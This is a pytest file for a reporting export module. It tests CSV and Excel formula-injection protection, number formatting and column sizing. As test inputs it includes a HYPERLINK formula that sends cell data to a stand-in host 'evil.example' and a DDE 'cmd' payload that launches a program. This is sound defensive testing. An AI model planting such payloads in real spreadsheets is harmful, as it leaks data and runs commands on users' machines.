"""The one export module: text is never a formula, numbers stay numbers, columns fit their content."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from ardesk.core import exports

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def table(rows, **kwargs) -> exports.ReportTable:
    return exports.ReportTable(title="T", subtitle=[], headers=["code", "name", "amount"], rows=rows, **kwargs)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", ATTACK])
def test_text_that_a_spreadsheet_would_evaluate_gets_a_quote_in_csv(text):
    assert exports.csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["ACME", "甲公司", "A=B", "", "2024-01-01"])
def test_ordinary_text_is_written_as_it_is(value):
    assert exports.csv_text(value) == value


def test_a_negative_amount_is_a_number_not_text():
    assert exports.csv_text(Decimal("-12.50")) == "-12.50"
    assert exports.csv_text(-3) == "-3"
    assert exports.csv_text(None) == ""


def test_csv_has_a_bom_and_quotes_formulas_but_not_negative_amounts():
    data = exports.to_csv(table([["C1", ATTACK, Decimal("-5.00")], ["C2", "-x", Decimal("7.10")]]))
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["code", "name", "amount"], ["C1", "'" + ATTACK, "-5.00"], ["C2", "'-x", "7.10"]]


def test_excel_keeps_formula_like_text_a_string_and_amounts_numbers():
    data = exports.to_xlsx(table([["C1", ATTACK, Decimal("-5.00")]], currency="JPY"))
    sheet = load_workbook(io.BytesIO(data)).active
    name, amount = sheet["B4"], sheet["C4"]  # title, blank line, header, row
    assert (name.value, name.data_type) == (ATTACK, "s")
    assert (amount.value, amount.data_type, amount.number_format) == (-5, "n", "#,##0")


def test_the_streamed_data_sheet_has_the_same_rules():
    rows = [["=cmd|' /C calc'!A0", Decimal("12.34"), dt.date(2024, 2, 29)]]
    data = exports.data_xlsx(["a", "b", "c"], rows, sheet_title="list", formats={2: "#,##0.00"})
    sheet = load_workbook(io.BytesIO(data)).active
    text, amount, day = sheet[2]
    assert (text.value, text.data_type) == ("=cmd|' /C calc'!A0", "s")
    assert (amount.value, amount.number_format) == (12.34, "#,##0.00")
    assert day.value == dt.datetime(2024, 2, 29) and day.number_format == "yyyy-mm-dd"


def test_columns_are_sized_by_content_and_the_long_names_give_way():
    rows = [["Name", "Amount"], ["A" * 200, "1,234,567.89"]]
    widths = exports.column_widths(rows, available=300, size=7.5)
    assert sum(widths) == pytest.approx(300)
    assert widths[1] >= exports.text_width("1,234,567.89", 7.5)  # the amount keeps its width
    roomy = exports.column_widths([["Name", "Amount"], ["ACME", "1.00"]], available=300, size=7.5)
    assert sum(roomy) == pytest.approx(300)


def test_the_terminal_table_counts_a_chinese_character_as_two_columns():
    lines = exports.text_table(["code", "name", "x", "amount"], [["A", "甲公司", "", Decimal("1234.50")]])
    assert lines == ["code  name    x  amount", "A     甲公司     1,234.50"]
